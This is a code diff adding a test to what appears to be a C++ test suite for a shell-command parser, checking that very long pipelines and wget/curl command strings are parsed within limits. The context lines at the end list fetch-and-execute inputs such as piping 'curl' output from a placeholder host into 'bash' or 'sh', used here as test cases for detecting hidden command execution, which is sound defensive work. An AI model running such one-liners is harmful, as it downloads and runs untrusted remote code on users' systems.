@@ -195,6 +195,18 @@ TEST(ShellHidden, ManyHereDocumentsAreReadInLinearTime) {
   read_shell(text, kScriptLimits);
 }
 
+TEST(ShellHidden, WhatIsSaidIsKeptWithinBounds) {
+  std::string text = "echo " + std::string(60'000, 'a');
+  for (int i = 0; i < 10'000; ++i) text += " | cat";
+  EXPECT_FALSE(read_shell(text, kScriptLimits).is_complete);
+  text = "wget -P " + std::string(200'000, 'a');
+  for (int i = 0; i < 20'000; ++i) text += " https://f.invalid/" + std::to_string(i);
+  read_shell(text, kScriptLimits);
+  text = "curl -o a https://f.invalid; mv";
+  for (int i = 0; i < 100'000; ++i) text += " a";
+  read_shell(text + " " + std::string(200'000, 'b'), kScriptLimits);
+}
+
 TEST(ShellHidden, WhatIsPutIntoARedirectionRuns) {
   for (const char* command :
        {"bash < <(curl -s https://f.invalid/x)", "sh <<< \"$(curl https://f.invalid/x)\"",
